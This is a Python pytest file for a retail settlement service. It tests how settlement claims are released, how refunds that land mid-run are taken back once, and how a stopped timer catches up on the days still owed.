def test_a_claim_held_for_an_older_statement_it_does_not_list_is_released(seeded, cos):
    from retail.common.clock import utcnow

    _completed_of_the_day(seeded, "O-d", "d")
    _old_statement(seeded, "m-self", DAY, [], [])  # an old-code run wrote it first
    seeded.settlement_claims.insert_one(  # a new-code run of DAY claimed O-d
        {"_id": "sale:O-d:m-self", "statement_id": f"m-self:{DAY}", "run": "r-new", "at": utcnow()}
    )
    from retail.settlement.claims import finalize

    assert finalize(seeded, f"m-self:{DAY}") == 1
    assert seeded.settlement_claims.find_one({"_id": "sale:O-d:m-self"}) is None


@pytest.mark.parametrize("when", ["in_day", "next_day"])
def test_a_refund_between_the_count_and_the_settle_pass_is_taken_back_once(
    seeded, orders, cos, monkeypatch, when
):
    from retail.settlement import ledger, statements

    real = ledger.settle_orders

    def refund_then_settle(db, end, budget):
        at = _at(23) if when == "in_day" else _at(1, NEXT)
        db.orders.update_one({"_id": "O2"}, {"$set": {"refunded_at": at, "settlement_due": at}})
        return real(db, end, budget)

    monkeypatch.setattr(statements, "settle_orders", refund_then_settle)
    run_settlement(SettleDay(day=DAY), db=seeded)
    monkeypatch.setattr(statements, "settle_orders", real)
    for day in (NEXT, "2026-11-25"):
        run_settlement(SettleDay(day=day), db=seeded)
    kinds = [k for _, k in _where(seeded, "O2")]
    assert sorted(kinds) == sorted(["sale", "late_refund" if when == "in_day" else "refund"])
    assert "O2" not in [o["_id"] for o in due_for_settlement(seeded)]


def test_a_timer_that_stopped_for_weeks_settles_the_days_still_owed_when_it_runs_again(seeded, cos):
    """Found by the order state machine (a longer run than CI's): the timer caught up only
    the last LOOKBACK (31) days, so a day with sales that no run settled in that time was
    never settled. It now reaches back to the oldest line still owed."""
    from retail.common.clock import day_of, travel, utcnow
    from retail.orders import due_for_settlement

    from .harness import completed_order

    completed_order("catch-up-0001", "o-catch-1")
    first_day = day_of(utcnow())
    try:
        travel(timedelta(days=1, hours=3))
        settle(first_day.isoformat())  # the shop has statements: the timer catches up
        order = completed_order("catch-up-0002", "o-catch-2")
        owed_day = day_of(utcnow())
        travel(timedelta(days=41, hours=3))  # then the timer stops for 40 days
        timer = {**sample("settlement_run"), "Message": ""}  # the timer names no day
        answer = handler("settlement_run")(timer, {})
        assert answer["code"] == "OK", answer
        claims = list(seeded.settlement_claims.find({"_id": {"$regex": order["order_id"]}}))
        assert claims and all(c["statement_id"].endswith(owed_day.isoformat()) for c in claims)
        assert due_for_settlement(seeded) == []
    finally:
        travel(timedelta(0))
